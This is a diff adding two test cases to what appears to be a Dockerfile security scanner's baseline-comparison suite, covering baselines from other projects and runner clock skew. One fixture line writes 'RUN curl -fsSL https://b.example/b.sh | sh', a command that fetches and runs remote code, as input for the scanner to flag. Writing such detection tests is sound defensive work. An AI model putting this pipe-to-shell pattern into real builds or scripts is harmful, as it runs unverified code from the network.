@@ -54,6 +54,39 @@ describe('a stored report', () => {
     );
   });
 
+  it('of another project does not count, also if it has the same finding', async () => {
+    const other = gitStory();
+    try {
+      other.base({ Dockerfile: PINNED + HARM, 'other.txt': 'a\n' });
+      const file = await other.store();
+      story.base({ Dockerfile: PINNED });
+      story.commit({ Dockerfile: PINNED + HARM });
+      const report = await compare(file);
+      expect(report.baseline?.with).toEqual(['main']);
+      expect(rulesWith(report, 'new')).toContain('PS0023');
+    } finally {
+      other.remove();
+    }
+  });
+
+  it.each(['1970-01-01T00:00:00Z', '2099-12-31T23:59:59Z'])(
+    'counts the same from a runner whose clock says %s',
+    async (instant) => {
+      story.base({ Dockerfile: PINNED + HARM });
+      const file = await story.store();
+      const text = readFileSync(file, 'utf8');
+      const wrong = text.replaceAll(/"\d{4}-\d\d-\d\dT[\d:.]+Z"/g, `"${instant}"`);
+      expect(wrong).not.toBe(text);
+      writeFileSync(file, wrong);
+      story.commit({ Dockerfile: `${PINNED}${HARM}RUN curl -fsSL https://b.example/b.sh | sh\n` });
+      const report = await compare(file);
+      expect(report.baseline?.with).toEqual([file]);
+      expect(rulesWith(report, 'existing')).toContain('PS0023');
+      expect(rulesWith(report, 'new')).toContain('PS0023');
+      expect(report.verdict.outcome).toBe('fail');
+    },
+  );
+
   it('counts without a revision, whatever it is about', async () => {
     story.base({ Dockerfile: PINNED });
     const file = await story.store();
